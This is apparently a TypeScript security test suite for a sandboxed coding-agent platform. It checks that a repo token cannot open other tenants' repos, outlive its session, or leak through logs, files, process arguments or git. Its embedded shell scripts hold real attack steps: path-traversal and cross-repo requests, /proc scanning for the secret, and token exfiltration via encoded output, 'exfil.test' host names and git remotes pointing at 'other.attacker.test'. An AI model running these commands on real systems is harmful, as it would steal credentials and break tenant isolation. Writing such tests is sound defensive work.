import { readdir, readFile } from 'node:fs/promises';
import { wrongIn, type Attack } from '../attack.ts';
import { eventually } from '../../support/eventually.ts';
import { backwards, fromInside, type Outcome } from '../rig/from-inside.ts';
import { PUBLIC_ADDRESS } from '../rig/internet.ts';
import { VICTIM_SECRET, type Arena } from '../rig/arena.ts';

const area = 'token';
/** Printed so, no mask knows it: the attacker has its token, and so has the test. */
const CONFESS = `printf 'token=%s\\n' "$REPO_TOKEN" | rev`;

/** The value of the attacker's token, which is from then on looked for everywhere. */
function confessed({ log }: Outcome, arena: Arena): string {
  const [, said = ''] = /^(\S+)=nekot$/m.exec(log) ?? [];
  const value = backwards(said);
  if (value !== '') arena.tokens.add(value);
  return value;
}

/** Whether the git host takes it still. */
async function opens({ stack }: Arena, token: string, repoId: string): Promise<boolean> {
  const headers = { authorization: `Bearer ${token}` };
  return (await fetch(`${stack.gitHostUrl}/repo/${repoId}`, { headers })).status === 200;
}

/** `status METHOD PATH [BODY]`: what the repo host answers to the token. */
const STATUS = `status() { curl -s -o /tmp/answer -w '%{http_code}' -m 10 -X "$1" -H "authorization: Bearer $REPO_TOKEN" -H 'content-type: application/json' "$RELACE_BASE_URL$2" \${3:+-d "$3"}; }
refused() { code=$(status "$@"); case "$code" in 401|403|404|405) ;; *) hole "$*: $code $(head -c 200 /tmp/answer)" ;; esac; }`;

/** Doing more with a token than it is for, longer than it lives, or elsewhere. */
export const TOKEN: Attack[] = [
  fromInside({
    name: 'a token opens no other repo, by git or by REST, to read or to write',
    area,
    must: 'The victim’s repo is refused, and whether it exists cannot be told.',
    script: ({ victim }) => `${STATUS}
      [ "$(status GET "/repo/$(basename "$PWD")")" = 200 ] || hole "its own repo is shut"
      refused GET /repo/${victim.repoId}
      known=$(cat /tmp/answer)
      refused GET /repo/00000000-0000-4000-8000-000000000000
      [ "$known" = "$(cat /tmp/answer)" ] || hole "the answers differ: $known and $(cat /tmp/answer)"
      refused POST /repo/${victim.repoId}/update '{"source":{"type":"files","files":[{"filename":"x","content":"x"}]}}'
      refused DELETE /repo/${victim.repoId}
      denied clone git clone -q "$RELACE_BASE_URL/repo/${victim.repoId}.git" /tmp/stolen
      denied push git push -q "$RELACE_BASE_URL/repo/${victim.repoId}.git" HEAD:refs/heads/planted
      for path in "${victim.repoId}.git/info/refs?service=git-upload-pack" "$(basename "$PWD").git/../${victim.repoId}.git/info/refs?service=git-upload-pack" \\
                  "$(basename "$PWD").git/..%2f${victim.repoId}.git/info/refs?service=git-upload-pack" "$(basename "$PWD").git%2f..%2f${victim.repoId}.git/info/refs?service=git-upload-pack"; do
        code=$(curl -s --path-as-is -o /tmp/answer -w '%{http_code}' -u "x:$REPO_TOKEN" "$RELACE_BASE_URL/repo/$path")
        case "$code" in 400|401|403|404) ;; *) hole "$path: $code" ;; esac
      done`,
  }),
  fromInside({
    name: 'a token makes, lists and deletes neither repos nor tokens',
    area,
    must: 'Everything that needs the account is 403.',
    script: `${STATUS}
      mine=$(basename "$PWD")
      refused POST /repo '{}'
      refused GET /repo
      refused DELETE "/repo/$mine"
      refused POST /repo_token "{\\"name\\":\\"more\\",\\"repo_ids\\":[\\"$mine\\"]}"
      refused GET /repo_token
      refused GET "/repo_token/$REPO_TOKEN"
      refused DELETE /repo_token/some-other-token
      refused GET /%2e%2e/v1/repo_token
      refused GET "/repo/$mine/../../repo_token"
      git ls-remote origin > /dev/null || hole "its own token does not work any more"`,
  }),
  fromInside({
    name: 'a token that was carried out is worthless when the session is over',
    area,
    must: 'The host refuses it from the end on, by REST and by git.',
    script: CONFESS,
    holds: async (outcome, arena, repoId) => {
      const token = confessed(outcome, arena);
      if (token === '') return ['the token was not carried out'];
      const still = await opens(arena, token, repoId);
      const git = await fetch(`${arena.stack.gitHostUrl}/repo/${repoId}.git/info/refs?service=git-upload-pack`, {
        headers: { authorization: `Basic ${Buffer.from(`x:${token}`).toString('base64')}` },
      });
      return wrongIn([!still, 'it still opens its repo'], [git.status === 401, `git is answered ${git.status}`]);
    },
  }),
  fromInside({
    name: 'a push that is under way does not outlive its token',
    area,
    must: 'What a session left running at the host ends with it.',
    script: `
      ${CONFESS}
      mine=$(basename "$PWD")
      for n in 1 2 3 4 5; do
        ( printf '0000'; sleep 600 ) | setsid curl -s -T - -X POST -H 'content-type: application/x-git-receive-pack-request' -u "x:$REPO_TOKEN" "$RELACE_BASE_URL/repo/$mine.git/git-receive-pack" > /dev/null 2>&1 &
      done
      sleep 1; echo left`,
    holds: async (outcome, arena, repoId) => {
      confessed(outcome, arena);
      const idle = await eventually(
        () => gitProcesses(repoId),
        (found) => found.length === 0,
        { timeoutMs: 10_000 },
      ).then(
        () => true,
        () => false,
      );
      return wrongIn([idle, 'a git process of the host still works for the repo']);
    },
  }),
  fromInside({
    name: 'the token is in no argument list, no .git/config and no file',
    area,
    must: 'While git fetches and pushes, it is in the environment of the agent’s processes and nowhere else.',
    script: `
      printf '%s' "$REPO_TOKEN" > /tmp/needle
      ( for n in 1 2 3 4 5 6 7 8 9 10; do git fetch -q origin; git push -q origin "HEAD:refs/heads/try-$n"; done; touch /tmp/done ) &
      while [ ! -e /tmp/done ]; do
        for file in /proc/[0-9]*/cmdline; do
          if tr '\\0' '\\n' < "$file" 2>/dev/null | grep -qFf /tmp/needle; then hole "in the arguments: $(tr '\\0' ' ' < "$file" | head -c 100)"; fi
        done
      done
      if grep -rqFf /tmp/needle .git /home /etc /opt /usr/local/bin /run 2>/dev/null; then hole "in a file: $(grep -rlFf /tmp/needle .git /home /etc /opt /run 2>/dev/null)"; fi
      if git config --list | grep -qFf /tmp/needle; then hole "in git's configuration"; fi
      if git remote -v | grep -qFf /tmp/needle; then hole "in a remote"; fi`,
    holds: async ({ session }, { stack }) => {
      // By then its container is gone; that of the victim is not.
      const containers = await Promise.all(
        (await stack.containers()).map(({ Id }) => stack.docker.getContainer(Id).inspect()),
      );
      const said = JSON.stringify(containers);
      return wrongIn([
        !said.includes(VICTIM_SECRET) && !/rtk_|REPO_TOKEN/.test(said),
        `docker inspect tells a secret (${session.id})`,
      ]);
    },
  }),
  fromInside({
    name: 'the token comes out of no log, however it is encoded, cut or scattered',
    area,
    must: 'Raw, in every base64 alignment, hex, percent and JSON form, over chunk borders, lines and streams: masked.',
    script: `
      ${CONFESS}
      echo "raw $REPO_TOKEN"; echo "err $REPO_TOKEN" >&2
      printf '%s' "$REPO_TOKEN" | base64 -w0; echo
      printf 'a%s' "$REPO_TOKEN" | base64 -w0; echo; printf 'ab%s' "$REPO_TOKEN" | base64 -w0; echo
      printf 'x:%s' "$REPO_TOKEN" | base64 -w0 | tr '+/' '-_' | tr -d =; echo
      printf '%s' "$REPO_TOKEN" | od -An -v -tx1 | tr -d ' \\n'; echo
      printf '%s' "$REPO_TOKEN" | od -An -v -tx1 | tr -d ' \\n' | tr a-f A-F; echo
      python3 -c "import os, json, urllib.parse as u; t = os.environ['REPO_TOKEN']; print(u.quote(t, safe='')); print(json.dumps(json.dumps(t))); print('http://x:' + t + '@h/')"
      i=1; while [ "$i" -le \${#REPO_TOKEN} ]; do printf '%s' "$(printf '%s' "$REPO_TOKEN" | cut -c$i)"; i=$((i + 1)); done; echo
      printf '%s' "$(printf '%s' "$REPO_TOKEN" | cut -c1-10)"; sleep 0.3; printf '%s\\n' "$(printf '%s' "$REPO_TOKEN" | cut -c11-)"
      head -c 65530 /dev/zero | tr '\\0' a; echo "$REPO_TOKEN"
      env; cat /proc/self/environ; set`,
    holds: (outcome, arena) => {
      const token = confessed(outcome, arena);
      if (token === '') return ['the token did not reach the test'];
      return wrongIn(
        ...forms(token).map(([form, text]): [boolean, string] => [
          !outcome.log.includes(text),
          `${form} is in the log`,
        ]),
      );
    },
  }),
  fromInside({
    name: 'a host name made of the token stays out of every log and answer of ours',
    area,
    must: 'What a sandbox asks for is written down without the secret that it holds.',
    script: `
      ${CONFESS}
      label=$(printf '%s' "$REPO_TOKEN" | tr '_' '-' | cut -c1-63)
      for host in "$REPO_TOKEN.exfil.test" "$label.exfil.test"; do
        curl -s -o /dev/null -m 5 --proxy http://127.0.0.1:3128 "http://$host/"
        curl -s -o /dev/null -m 5 --proxy http://127.0.0.1:3128 "https://$host/$REPO_TOKEN"
        git ls-remote "http://$host/$REPO_TOKEN.git" 2>&1
      done
      true`,
    holds: (outcome, arena) => {
      const token = confessed(outcome, arena);
      const printed = (['api', 'gateway', 'git-host', 'minter', 'worker'] as const).flatMap((role) =>
        arena.stack
          .process(role)
          .lines()
          .filter((line) => line.toLowerCase().includes(token.toLowerCase()))
          .map(() => role),
      );
      return wrongIn(
        [token !== '', 'the token did not reach the test'],
        [printed.length === 0, `the token is in the log of ${[...new Set(printed)].join()}`],
        [!JSON.stringify(outcome.events).toLowerCase().includes(token.toLowerCase()), 'the token is in an event'],
      );
    },
  }),
  fromInside({
    name: 'a branch, a commit and a failure that hold the token do not carry it into our answers',
    area,
    must: 'Session, events, receipt and tokens on the wire hold no value.',
    ends: 'failed',
    script: `
      ${CONFESS}
      git checkout -q -b "agent/$REPO_TOKEN" && git commit -q --allow-empty -m "$REPO_TOKEN" && git push -q origin HEAD
      git push "http://x:$REPO_TOKEN@127.0.0.1:1/" 2>&1
      exec "/workspace/$REPO_TOKEN"`,
    holds: async (outcome, arena) => {
      const token = confessed(outcome, arena);
      const { id } = outcome.session;
      const paths = [
        `/v1/sessions/${id}`,
        `/v1/sessions/${id}/events`,
        `/v1/sessions/${id}/receipt`,
        `/v1/sessions/${id}/logs?stream=system`,
        '/v1/tokens',
        '/v1/stats',
        '/metrics',
      ];
      const answers = await Promise.all(
        paths.map(async (path) => [path, await (await arena.stack.call('GET', path)).text()] as const),
      );
      return wrongIn(
        [token !== '', 'the token did not reach the test'],
        ...answers.map(([path, text]): [boolean, string] => [!text.includes(token), `the token is in ${path}`]),
      );
    },
  }),
  fromInside({
    name: 'git sends the token to no other host, by remote, submodule or redirect',
    area,
    must: 'The other host sees requests without a credential.',
    request: { network: { allow: ['other.attacker.test:80'] } },
    script: async ({ internet }) => {
      await internet.serve('other.attacker.test', [PUBLIC_ADDRESS]);
      return `
        export GIT_TERMINAL_PROMPT=0
        git ls-remote http://other.attacker.test/x.git > /dev/null 2>&1
        git ls-remote http://token@other.attacker.test/x.git > /dev/null 2>&1
        git -c http.extraHeader= ls-remote "$RELACE_BASE_URL@other.attacker.test/x.git" > /dev/null 2>&1
        git submodule add -q http://other.attacker.test/sub.git sub > /dev/null 2>&1
        printf 'protocol=http\\nhost=other.attacker.test\\n\\n' | git credential fill 2>/dev/null | grep -q password && hole "a credential for another host"
        printf 'protocol=https\\nhost=%s\\n\\n' "$(printf '%s' "$RELACE_BASE_URL" | cut -d/ -f3)" | git credential fill 2>/dev/null | grep -q password && hole "a credential for another protocol"
        printf 'url=http://%s.attacker.test/\\n\\n' "$(printf '%s' "$RELACE_BASE_URL" | cut -d/ -f3 | tr : .)" | git credential fill 2>/dev/null | grep -q password && hole "a credential for a look-alike"
        true`;
    },
    holds: (_outcome, { internet }) => {
      const told = internet
        .requests()
        .filter(({ host, headers }) => host.startsWith('other') && headers.authorization !== undefined);
      const reached = internet.requests().some(({ host }) => host.startsWith('other'));
      return wrongIn(
        [reached, 'git never reached the other host'],
        [told.length === 0, 'the other host was given a credential'],
      );
    },
  }),
  fromInside({
    name: 'killing git’s helper or its remote program yields an error and no secret',
    area,
    must: 'Git fails, says nothing of the token, and works again.',
    script: `
      for n in 1 2 3 4 5; do
        git fetch origin > /tmp/said-$n 2>&1 &
        pkill -9 -f '[g]it-credential-daypass'; pkill -9 -f '[g]it-remote-http'; wait $!
      done
      cat /tmp/said-* | grep -qF "$REPO_TOKEN" && hole "the error tells it"
      git fetch -q origin || hole "git does not work any more"`,
  }),
];

/** Every form that a careless program prints a secret in. */
function forms(token: string): [string, string][] {
  const base64 = (prefix: string): string =>
    Buffer.from(prefix + token)
      .toString('base64')
      .slice(prefix.length === 0 ? 0 : 4, -4);
  return [
    ['the raw token', token],
    ['base64', base64('')],
    ['base64 after one byte', base64('a')],
    ['base64 after two bytes', base64('ab')],
    ['hex', Buffer.from(token).toString('hex')],
    ['upper hex', Buffer.from(token).toString('hex').toUpperCase()],
    ['the percent form', encodeURIComponent(token)],
  ];
}

async function gitProcesses(repoId: string): Promise<string[]> {
  const pids = (await readdir('/proc')).filter((name) => /^\d+$/.test(name));
  const lines = await Promise.all(pids.map((pid) => readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => '')));
  return lines.filter((line) => line.startsWith('git') && line.includes(repoId));
}
